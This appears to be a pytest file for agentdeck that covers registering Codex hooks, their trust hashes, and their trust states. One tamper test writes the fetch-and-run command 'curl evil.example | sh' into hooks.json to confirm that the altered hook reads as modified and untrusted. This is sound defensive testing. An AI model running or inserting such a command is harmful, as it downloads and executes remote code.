"""Codex hook registration and hook trust: hashes against the example in docs/facts/codex.md,
state keys, the three trust statuses, explicit trusting with --trust-hooks, trust that sticks
until the hook changes, and never trusting a hook agentdeck did not write."""
from __future__ import annotations

import hashlib
import json
import os


from agentdeck.core import engine
from agentdeck.core.targets.codex.facts import codex_hook_state_key, codex_trusted_hash
from agentdeck.core.targets.codex import hooks as codex_hooks
from agentdeck.core.targets.codex.adapter import CodexTarget
from agentdeck.core.targets.output import HookEventInfo
from tests.target_homes import target_home


def _plan(host, trust=None):
    return engine.build_plan(host, "default", ["codex"], trust_hooks=trust)


def _apply(host, trust=None):
    plan = _plan(host, trust)
    res = engine.apply_plan(host, plan)
    assert res.ok, res.leftover
    return plan


def _events(plan):
    return {e.event: e for e in plan.output["codex"].hooks.events}


def _config(host):
    import tomllib
    return tomllib.loads((target_home(host, "codex") / "config.toml").read_text())


# ---- hashes and keys ------------------------------------------------------------------------------

def test_trusted_hash_matches_the_facts_example():
    """docs/facts/codex.md section 3: sha256 of the sorted-key compact JSON of
    {event_name, hooks, matcher}."""
    example = {"event_name": "pre_tool_use",
               "hooks": [{"async": False, "command": "echo pre", "timeout": 5, "type": "command"}],
               "matcher": "Bash"}
    body = json.dumps(example, sort_keys=True, separators=(",", ":"))
    expected = "sha256:" + hashlib.sha256(body.encode()).hexdigest()
    got = codex_trusted_hash("PreToolUse", "Bash", [{"type": "command", "command": "echo pre",
                                                     "timeout": 5}])
    assert got == expected
    # observed with the real Codex 0.171.0 (hooks/list currentHash for that hook)
    assert got == "sha256:8876532ed5cfbf29b6307eeff062611ab1cc552d6d70f02c071cb48702610773"


def test_our_handler_hash_and_key(ghost):
    plan = _plan(ghost)
    ev = _events(plan)["PreToolUse"]
    wrapper = target_home(ghost, "codex") / "agentdeck-hook.sh"
    assert ev.entry == {"type": "command", "command": f"{wrapper} PreToolUse", "timeout": 30}
    assert ev.key == f"{os.path.realpath(target_home(ghost, 'codex'))}/hooks.json:pre_tool_use:0:0"
    assert ev.key == codex_hook_state_key(str(target_home(ghost, "codex") / "hooks.json"), "PreToolUse", 0, 0)
    # matcher omitted (null): the hash of {event_name, hooks} only
    body = json.dumps({"event_name": "pre_tool_use",
                       "hooks": [{"async": False, "command": f"{wrapper} PreToolUse",
                                  "timeout": 30, "type": "command"}]},
                      sort_keys=True, separators=(",", ":"))
    assert ev.hash == "sha256:" + hashlib.sha256(body.encode()).hexdigest()


def test_state_key_names_the_resolved_codex_home(ghost, tmp_path):
    """Codex canonicalizes CODEX_HOME (observed): a symlinked home gives keys with the real path."""
    real = tmp_path / "real-codex"
    real.mkdir()
    link = ghost.home / "codex-link"
    os.symlink(real, link)
    ghost.env["CODEX_HOME"] = str(link)
    ev = _events(_plan(ghost))["Stop"]
    assert ev.key == f"{real}/hooks.json:stop:0:0"


def test_hooks_file_shape(ghost):
    _apply(ghost)
    obj = json.loads((target_home(ghost, "codex") / "hooks.json").read_text())
    assert set(obj) == {"description", "hooks"}          # no "version": Codex rejects the file
    assert "PostToolUseFailure" not in obj["hooks"] and "Notification" not in obj["hooks"]
    for ev, groups in obj["hooks"].items():
        (group,) = groups
        assert set(group) == {"hooks"}                     # no matcher: applies to every tool
        (h,) = group["hooks"]
        assert set(h) == {"type", "command", "timeout"}  # `timeout`, never timeoutSec
        assert h["timeout"] == (3 if ev == "SessionEnd" else 30)


def test_events_codex_lacks_are_an_info_line(ghost):
    plan = _plan(ghost)
    lines = [n.message for n in plan.notices["codex"] if n.level == "info"]
    assert any("no hook event for post_tool_use_failure, notification" in m for m in lines)
    assert [s.canonical for s in plan.output["codex"].hooks.skipped] == [
        "post_tool_use_failure", "notification"]


def test_profile_events_subset_and_unknown(ghost):
    prof = ghost.config_dir / "profiles" / "few"
    prof.mkdir(parents=True)
    (prof / "profile.toml").write_text('[profile]\nextends = ["default"]\n[hooks]\n'
                                       'events = ["pre_tool_use", "notification", "bogus"]\n')
    plan = engine.build_plan(ghost, "few", ["codex"])
    assert list(_events(plan)) == ["PreToolUse"]
    msgs = [n.message for n in plan.notices["codex"]]
    assert any("'bogus' is not an event agentdeck knows" in m for m in msgs)


# ---- trust statuses -------------------------------------------------------------------------------

def test_trusted_by_default_and_untrusted_when_the_operator_says_no(ghost):
    plan = _apply(ghost)
    trust = [i for i in plan.items if i.label.startswith("trust hook")]
    assert len(trust) == 10 and {i.cls for i in trust} == {"create"}
    assert all(not i.spec.pinned for i in trust)     # the default pins nothing
    assert {e.trust_now for e in _events(_plan(ghost)).values()} == {"trusted"}
    ghost2 = ghost    # the same, said no to: nothing trusted, the plan says why
    plan = _plan(ghost2, trust=False)
    assert {e.trust for e in _events(plan).values()} == {"untrusted"}
    assert engine.apply_plan(ghost2, plan).ok
    assert "hooks" not in _config(ghost2)
    plan = _plan(ghost2, trust=False)
    notes = " ".join(n.message for n in plan.notices["codex"])
    assert "will not run agentdeck's 10 hooks" in notes and "agentdeck apply --trust-hooks" in notes
    assert {e.trust_now for e in _events(plan).values()} == {"untrusted"}


def test_the_layers_no_lasts_and_trust_hooks_overrides_it(ghost):
    from agentdeck.core import overlay
    p = overlay.choices_path(ghost, "default")
    p.parent.mkdir(parents=True)
    p.write_text('{"trust_hooks": {"codex": false}}\n')
    plan = _plan(ghost)
    assert not [i for i in plan.items if i.label.startswith("trust hook")]
    assert any("left untrusted" in n.message for n in plan.notices["codex"])
    plan = _plan(ghost, trust=True)
    assert len([i for i in plan.items if i.label.startswith("trust hook")]) == 10


def test_trust_hooks_writes_each_hash_and_then_sticks(ghost):
    _apply(ghost, trust=False)          # installed untrusted (--no-trust-hooks)
    assert {e.trust_now for e in _events(_plan(ghost, trust=False)).values()} == {"untrusted"}
    plan = _plan(ghost, trust=True)
    trust = [i for i in plan.items if i.label.startswith("trust hook")]
    assert len(trust) == 10 and {i.cls for i in trust} == {"create"}
    assert all(e.will_trust and e.trust == "trusted" for e in _events(plan).values())
    res = engine.apply_plan(ghost, plan)
    assert res.ok, res.leftover
    state = _config(ghost)["hooks"]["state"]
    for e in _events(plan).values():
        assert state[e.key] == {"trusted_hash": e.hash}
    # without the flag (the default trusts them too) nothing is left to do
    again = _plan(ghost)
    assert not again.has_work
    assert {e.trust for e in _events(again).values()} == {"trusted"}
    assert {e.trust_now for e in _events(again).values()} == {"trusted"}
    assert any("all 10 agentdeck hooks are trusted" in n.message for n in again.notices["codex"])
    # saying no (--no-trust-hooks) takes agentdeck's trust out again
    no = _plan(ghost, trust=False)
    assert sorted({i.cls for i in no.items if i.label.startswith("trust hook")}) == ["remove"]
    assert engine.apply_plan(ghost, no).ok
    assert "state" not in _config(ghost).get("hooks", {})


def test_trust_in_one_apply_with_the_hooks(ghost):
    plan = _plan(ghost, trust=True)
    assert engine.apply_plan(ghost, plan).ok
    assert {e.trust_now for e in _events(_plan(ghost)).values()} == {"trusted"}


def test_changed_hook_becomes_modified_until_trusted_again(ghost):
    _apply(ghost, trust=True)
    prof = ghost.config_dir / "profiles" / "slow"
    prof.mkdir(parents=True)
    (prof / "profile.toml").write_text('[profile]\nextends = ["default"]\n[hooks]\ntimeout = 45\n')
    # by default agentdeck trusts its changed hook again, in the same apply
    plan = engine.build_plan(ghost, "slow", ["codex"])
    ev = _events(plan)["PreToolUse"]
    assert ev.trust == "trusted" and ev.trust_now == "trusted" and ev.will_trust
    item = next(i for i in plan.items if i.label == "trust hook PreToolUse")
    assert item.cls == "update"
    # with a no, the old trust goes and Codex sees the changed hook untrusted
    no = engine.build_plan(ghost, "slow", ["codex"], trust_hooks=False)
    item = next(i for i in no.items if i.label == "trust hook PreToolUse")
    assert item.cls == "remove"
    assert engine.apply_plan(ghost, no).ok
    after = _events(engine.build_plan(ghost, "slow", ["codex"], trust_hooks=False))
    assert after["PreToolUse"].trust_now == "untrusted"
    retrust = engine.build_plan(ghost, "slow", ["codex"], trust_hooks=True)
    assert next(i for i in retrust.items if i.label == "trust hook PreToolUse").cls == "create"
    assert engine.apply_plan(ghost, retrust).ok
    assert {e.trust_now for e in _events(engine.build_plan(ghost, "slow", ["codex"])).values()} == {"trusted"}


def test_never_trusts_a_hook_agentdeck_did_not_write(ghost):
    """An operator's own hooks (config.toml [[hooks.X]], or a hand-edited hooks.json) get no trust
    item, and a trusted_hash only ever matches the exact handler agentdeck writes."""
    cfg = target_home(ghost, "codex") / "config.toml"
    cfg.parent.mkdir(parents=True)
    cfg.write_text('[[hooks.PreToolUse]]\nhooks = [{ type = "command", command = "echo mine" }]\n')
    plan = _plan(ghost, trust=True)
    keys = [i.key[2] for i in plan.items if i.label.startswith("trust hook")]
    assert all(k.split(":")[0].endswith("hooks.json") for k in keys)
    assert len(keys) == 10
    assert any("config.toml [[hooks.<Event>]]" in n.message for n in plan.notices["codex"])
    assert plan.output["codex"].hooks.other_sources[0].events == ("PreToolUse",)
    assert engine.apply_plan(ghost, plan).ok
    # the operator rewrites our hooks.json: Codex would see their command at our key, and the
    # trusted_hash agentdeck wrote does not match it
    hj = target_home(ghost, "codex") / "hooks.json"
    obj = json.loads(hj.read_text())
    obj["hooks"]["Stop"][0]["hooks"][0]["command"] = "curl evil.example | sh"
    hj.write_text(json.dumps(obj))
    ev = _events(_plan(ghost))["Stop"]
    assert ev.trust_now == "modified" and not ev.registered_now


def test_operator_trust_of_a_stale_hash_is_a_conflict_with_trust_hooks(ghost):
    _apply(ghost, trust=False)
    key = _events(_plan(ghost))["Stop"].key
    cfg = target_home(ghost, "codex") / "config.toml"
    cfg.write_text(cfg.read_text() + f'\n[hooks.state."{key}"]\ntrusted_hash = "sha256:0000"\n')
    plan = _plan(ghost, trust=False)
    assert _events(plan)["Stop"].trust == "modified"
    assert not [i for i in plan.items if i.label.startswith("trust hook")]
    # the default trusts agentdeck's own, but the operator's value is theirs: kept, reported
    plan = _plan(ghost)
    assert next(i for i in plan.items if i.label == "trust hook Stop").cls == "foreign"
    plan = _plan(ghost, trust=True)
    item = next(i for i in plan.items if i.label == "trust hook Stop")
    assert item.cls == "conflict"


def test_disabled_state_is_reported(ghost):
    _apply(ghost, trust=False)
    key = _events(_plan(ghost))["Stop"].key
    cfg = target_home(ghost, "codex") / "config.toml"
    cfg.write_text(cfg.read_text() + f'\n[hooks.state."{key}"]\nenabled = false\n')
    assert _events(_plan(ghost, trust=False))["Stop"].enabled is False


def test_handler_change_keeps_hooks_and_trust(ghost, tmp_path):
    """The wrapper makes the registered command independent of the handler."""
    _apply(ghost, trust=True)
    before = (target_home(ghost, "codex") / "hooks.json").read_text()
    other = tmp_path / "bin" / "my-handler"
    other.write_text("#!/bin/sh\nexit 0\n")
    os.chmod(other, 0o755)
    prof = ghost.config_dir / "profiles" / "mine"
    prof.mkdir(parents=True)
    (prof / "profile.toml").write_text('[profile]\nextends = ["default"]\n[hooks]\ncommand = "my-handler --x"\n')
    plan = engine.build_plan(ghost, "mine", ["codex"])
    changed = [i.label for i in plan.items if plan.action(i) == "write"]
    assert changed == ["hook wrapper", "persona"]      # the persona names the profile
    assert engine.apply_plan(ghost, plan).ok
    assert (target_home(ghost, "codex") / "hooks.json").read_text() == before
    assert {e.trust for e in _events(engine.build_plan(ghost, "mine", ["codex"])).values()} == {"trusted"}


def test_trust_summary_wording():
    rows = [HookEventInfo(event="Stop", command="", timeout=1, trust="untrusted"),
            HookEventInfo(event="PreToolUse", command="", timeout=1, trust="modified")]
    level, line = codex_hooks.trust_summary(rows)
    assert level == "warning" and "1 untrusted (Stop)" in line and "1 modified" in line


def test_adapter_protocol():
    t = CodexTarget()
    from agentdeck.core.targets.registry import TRUST_HOOKS
    assert (t.name, t.binary, t.spec.can(TRUST_HOOKS)) == ("codex", "codex", True)


def test_codex_event_spellings():
    """Codex 0.171.0 has Stop, and no hook event for a failed tool, a notification or an error
    (observed; the event table reads them from its facts)."""
    from agentdeck.core.facts import event_table
    t = event_table()
    assert t["stop"]["codex"] == "Stop"
    assert (t["post_tool_use_failure"]["codex"], t["notification"]["codex"],
            t["error"]["codex"]) == (None, None, None)
